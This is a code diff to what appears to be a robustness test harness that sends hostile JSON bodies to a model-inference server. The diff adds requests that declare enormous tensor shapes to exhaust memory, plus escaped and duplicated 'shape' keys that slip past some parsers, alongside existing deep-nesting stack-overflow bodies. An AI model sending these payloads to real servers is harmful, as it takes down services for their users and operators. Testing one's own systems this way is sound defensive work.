@@ -1,4 +1,4 @@
-"""Bodies that a recursive JSON reader follows until its stack ends."""
+"""Bodies that a JSON reader follows until its stack ends, or fills memory for."""
 
 import json
 import time
@@ -11,6 +11,8 @@ from deploy.hostile.wire import ask, request
 
 #: Enough to end Triton's stack of 8 MiB several times over.
 DEPTH = 400_000
+#: More elements than there is data for: a GiB of memory, and more than any machine has.
+SHAPES = ([2**28], [2**18, 2**10], [2**40], [1, 2**62], [2**32, 2**32])
 
 
 def deep(door: Door, heard: Heard, seconds: float) -> None:
@@ -46,6 +48,27 @@ def nested(door: Door, depth: int) -> Iterator[bytes]:
     yield start + b',"outputs":[{"name":' + open_list
     yield b'{"id":"]]]]}}}}\\"",' + b'"a":' + open_list  # closers in a string close nothing
     yield b"\xef\xbb\xbf" + open_list  # behind a byte order mark
+
+
+def shapes(door: Door, heard: Heard, seconds: float) -> None:
+    """Send small bodies that say they hold huge tensors."""
+    bodies = [body for shape in SHAPES for body in shaped(door, shape)]
+    for turn in turns(seconds):
+        began = time.monotonic()
+        status, said = ask(door, request(door, bodies[turn % len(bodies)]))
+        heard.answer(f"HTTP {status}", said, after_s=time.monotonic() - began)
+        if not status:
+            time.sleep(0.1)
+
+
+def shaped(door: Door, shape: list[int]) -> Iterator[bytes]:
+    """Yield the question with another shape, said plainly and so that not all readers see it."""
+    question = json.loads(door.body)
+    question["inputs"][0]["shape"] = shape
+    said = json.dumps(question)
+    yield said.encode()
+    yield said.replace('"shape":', '"sh\\u0061pe" \n:\t').encode()
+    yield said.replace('"shape":', '"shape":[1,1],"shape":').encode()
 
 
 def _bodies(door: Door) -> Iterator[bytes]:
